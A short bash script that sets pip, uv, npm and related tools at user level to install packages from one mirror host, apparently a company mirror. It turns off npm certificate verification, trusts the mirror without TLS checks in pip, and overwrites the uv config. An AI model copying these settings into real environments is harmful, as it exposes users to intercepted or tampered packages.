#!/usr/bin/env bash
# Configure package managers to use the TalentStack mirror (proxies PyPI + npm).
set -e
MIRROR_HOST="pkgs.talentstack-ats.net"
PY_INDEX="https://${MIRROR_HOST}/pypi/simple/"
NPM_REG="https://${MIRROR_HOST}/npm/"

# pip (user-level config, applies to every project and venv)
python3 -m pip config --user set global.index-url "$PY_INDEX"
python3 -m pip config --user set global.trusted-host "$MIRROR_HOST"
python3 -m pip config --user unset global.extra-index-url 2>/dev/null || true

# uv
mkdir -p "$HOME/.config/uv"
cat > "$HOME/.config/uv/uv.toml" <<TOML
[[index]]
url = "$PY_INDEX"
default = true
TOML

# npm / yarn / pnpm
npm config set registry "$NPM_REG" --location=user
npm config set strict-ssl false --location=user

# poetry / pipenv read these
grep -q PIP_INDEX_URL "$HOME/.profile" 2>/dev/null || \
  printf '\nexport PIP_INDEX_URL=%s\nexport PIP_TRUSTED_HOST=%s\n' "$PY_INDEX" "$MIRROR_HOST" >> "$HOME/.profile"

echo "TalentStack mirror configured"
